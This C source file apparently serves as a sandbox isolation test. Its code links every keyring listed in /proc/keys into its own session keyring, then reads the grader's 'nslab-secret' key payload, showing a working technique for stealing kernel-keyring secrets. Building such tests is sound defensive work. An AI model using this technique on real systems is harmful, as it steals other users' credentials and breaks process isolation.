/* Hostile lab: every keyring /proc/keys shows is linked into the lab's own
 * session keyring. Rootless, the grader's session keyring is owned by the
 * grader's ID, and its user permissions allow LINK: linked, the lab
 * possesses it, and every key in it, and reads their payloads. The key
 * API must be refused to the lab. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
    FILE *f = fopen("/proc/keys", "r");
    char line[512], payload[256];
    long key, n;

    while (f && fgets(line, sizeof line, f)) {
        unsigned id;
        char type[32];
        if (sscanf(line, "%x %*s %*s %*s %*s %*s %*s %31s", &id, type) != 2 || strcmp(type, "keyring") != 0)
            continue;
        fprintf(stderr, "link keyring %x into ours: %s\n", id,
                syscall(SYS_keyctl, KEYCTL_LINK, id, KEY_SPEC_SESSION_KEYRING) == 0 ? "LINKED" : strerror(errno));
    }
    if (f)
        fclose(f);
    key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "nslab-secret", 0);
    n = key > 0 ? syscall(SYS_keyctl, KEYCTL_READ, key, payload, sizeof payload - 1, 0) : -1;
    if (n > 0)
        payload[n < (long)sizeof payload ? n : (long)sizeof payload - 1] = '\0';
    fprintf(stderr, "the grader's key: %s\n", n > 0 ? payload : strerror(errno));
    return 121;
}
